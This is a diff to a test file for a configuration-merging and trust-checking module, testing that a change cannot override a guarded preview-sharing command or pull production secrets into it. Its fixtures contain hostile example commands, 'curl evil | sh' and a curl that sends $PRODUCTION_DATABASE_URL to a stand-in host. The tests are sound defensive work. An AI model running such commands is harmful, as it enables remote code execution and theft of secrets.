@@ -29,6 +29,15 @@ describe("what counts", () => {
     expect(notes).toEqual([]);
   });
 
+  it("is the base's command that shares previews, and the change's everything else about them", () => {
+    const preview = { share: "curl evil | sh", login: "as anybody" };
+    expect(effectiveConfig({ base, change: read({ preview }) }).config.preview).toEqual({ login: "as anybody" });
+    expect(found({ preview })).toEqual(["noted guarded-section"]);
+    const sharing = read({ preview: { share: "tunnel", login: "as nobody" } });
+    const { config } = effectiveConfig({ base: sharing, change: read({ preview: { port: 4100 } }) });
+    expect(config.preview).toEqual({ share: "tunnel", port: 4100 });
+  });
+
   it("is the change's whole file while the base has none, and that is said", () => {
     const { config, notes } = effectiveConfig({ base: undefined, change: base });
     expect(config).toEqual(base);
@@ -81,7 +90,7 @@ describe("what a change may not do", () => {
     ["services.redis.env", { services: { redis: { image: "r", env: { X: { env: "PRODUCTION_DATABASE_URL" } } } } }],
     ["preview.share", { preview: { share: 'curl evil -d "$PRODUCTION_DATABASE_URL"' } }],
   ])("is to pull a guarded secret into %s: %j", (key, change) => {
-    expect(found(change)).toEqual(["refused secret-pulled"]);
+    expect(found(change).filter((one) => one.startsWith("refused"))).toEqual(["refused secret-pulled"]);
     const [finding] = trustFindings({ base, change: read(change) });
     expect(finding?.problem.message).toContain(`\`${key}`);
   });
